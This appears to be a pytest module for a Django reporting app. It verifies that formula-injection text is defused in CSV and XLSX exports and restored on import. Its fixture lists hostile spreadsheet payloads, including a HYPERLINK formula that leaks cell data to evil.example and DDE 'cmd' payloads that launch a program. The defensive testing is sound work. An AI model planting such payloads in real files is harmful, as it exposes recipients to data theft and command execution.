"""Spreadsheet formula injection (OWASP "CSV injection"): reporter text that starts with
``= + - @``, a tab or a carriage return must never become a live formula in a staff export or the
open data, numbers stay numbers, and ``import_reports`` reads the original text back."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from django.core.management import call_command
from hypothesis import given
from hypothesis import strategies as st

from reports.models import Report
from reports.services.enrichment import reports_enrich
from reports.services.exports import export_write
from reports.services.exports.formulas import text_neutralise, text_restore
from reports.services.publishing import report_publish
from reports.services.workflow import report_transition
from tests.reports.factories import new_report

pytestmark = pytest.mark.django_db

# Field -> hostile text, one per trigger character.
HOSTILE = {
    "narrative": '=HYPERLINK("http://evil.example/?leak="&A2,"Click for details")',
    "drone_colour": "+1+cmd|' /C calc'!A0",
    "location_text": "-2+3+cmd|' /C calc'!A0",
    "contact_name": "@SUM(1+9)*cmd|' /C calc'!A0",
    "aircraft_type": "\t=1+1",
    "city": "\r=2+2",
    "locality": "'=already quoted",  # must survive a round trip too
}
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def hostile_report(*, publish: bool = False) -> Report:
    report = new_report()
    reports_enrich(report_ids=[report.pk])
    # South of the equator and west of Greenwich: negative numbers in numeric columns.
    Report.objects.filter(pk=report.pk).update(
        **HOSTILE,
        latitude=-33.8688,
        longitude=-70.6693,
        narrative_redacted="=1+1 published words",
    )
    if publish:
        for status in ("verified", "classified"):
            report_transition(report=report, to_status=status, actor="analyst")
        report_publish(report=report, actor="analyst")
    return Report.objects.get(pk=report.pk)


def csv_rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def read_csv(path: Path) -> list[dict[str, str]]:
    with path.open(newline="", encoding="utf-8") as handle:
        return list(csv.DictReader(handle))


def xlsx_text(text: str) -> str:
    # XML turns a bare carriage return into a line feed when it is read (openpyxl writes it
    # unescaped); that is XLSX's limit, not formula handling.
    return text.replace("\r", "\n")


def assert_no_formulas(path: Path) -> openpyxl.Workbook:
    workbook = openpyxl.load_workbook(path)
    formulas = [
        f"{sheet.title}!{cell.coordinate}={cell.value!r}"
        for sheet in workbook.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f"
    ]
    assert not formulas, f"live formulas in {path.name}: {formulas}"
    return workbook


def xlsx_record(workbook: openpyxl.Workbook) -> dict[str, Any]:
    """The first data row's cells by column name."""
    sheet = workbook["reports"]
    header = [str(cell.value) for cell in sheet[1]]
    return dict(zip(header, sheet[2], strict=True))


def test_staff_xlsx_writes_hostile_text_as_plain_text_cells_and_numbers_as_numbers(tmp_path):
    hostile_report()
    path = tmp_path / "staff.xlsx"
    export_write(path=path, fmt="xlsx", include_contact=True)
    cells = xlsx_record(assert_no_formulas(path))
    for field, text in HOSTILE.items():
        cell = cells[field]
        assert cell.data_type == "s", (field, cell.data_type, cell.value)
        assert cell.value == xlsx_text(text), field
        if text[0] in TRIGGERS:
            # Excel's own "typed with a leading apostrophe" flag: editing the cell keeps it text.
            assert cell.quotePrefix, field
    assert cells["latitude"].data_type == "n" and cells["latitude"].value == pytest.approx(-33.8688)
    assert cells["longitude"].value == pytest.approx(-70.6693)


def test_staff_csv_prefixes_hostile_text_with_a_quote_and_leaves_numbers_alone(tmp_path):
    hostile_report()
    path = tmp_path / "staff.csv"
    export_write(path=path, fmt="csv", include_contact=True)
    (row,) = read_csv(path)
    for field, text in HOSTILE.items():
        assert row[field] == "'" + text, (field, row[field])
    assert row["latitude"] == "-33.8688" and row["longitude"] == "-70.6693"
    assert not row["reference"].startswith("'")


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_import_reports_reads_the_original_hostile_text_back(tmp_path, fmt):
    hostile_report()
    path = tmp_path / f"staff.{fmt}"
    export_write(path=path, fmt=fmt, include_contact=True)
    Report.objects.all().delete()
    out = io.StringIO()
    call_command("import_reports", str(path), "--errors", str(tmp_path / "e.csv"), stdout=out)
    assert json.loads(out.getvalue())["imported"] == 1, (tmp_path / "e.csv").read_text()
    report = Report.objects.get()
    for field, text in HOSTILE.items():
        assert getattr(report, field) == (text if fmt == "csv" else xlsx_text(text)), field
    assert report.latitude == pytest.approx(-33.8688)


def test_the_open_data_csv_download_neutralises_the_published_narrative(client):
    hostile_report(publish=True)
    response = client.get("/api/v1/public/reports.csv")
    (row,) = csv_rows(response.content.decode())
    assert row["narrative"] == "'=1+1 published words"
    assert float(row["latitude"]) < 0 and not row["latitude"].startswith("'")


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_the_public_export_files_neutralise_the_published_narrative(tmp_path, fmt):
    hostile_report(publish=True)
    path = tmp_path / f"public.{fmt}"
    assert export_write(path=path, fmt=fmt, variant="public") == 1
    if fmt == "csv":
        (row,) = read_csv(path)
        assert row["narrative"] == "'=1+1 published words"
        assert float(row["longitude"]) < 0 and not row["longitude"].startswith("'")
    else:
        cells = xlsx_record(assert_no_formulas(path))
        assert cells["narrative"].data_type == "s"
        assert cells["narrative"].value == "=1+1 published words"
        assert cells["longitude"].data_type == "n" and cells["longitude"].value < 0


@given(st.text(max_size=12) | st.from_regex(r"\A'*[=+\-@\t\r].{0,5}\Z"))
def test_a_neutralised_cell_never_starts_a_formula_and_restores_exactly(text):
    cell = text_neutralise(text)
    assert not cell[:1] or cell[0] not in TRIGGERS
    assert text_restore(cell) == text
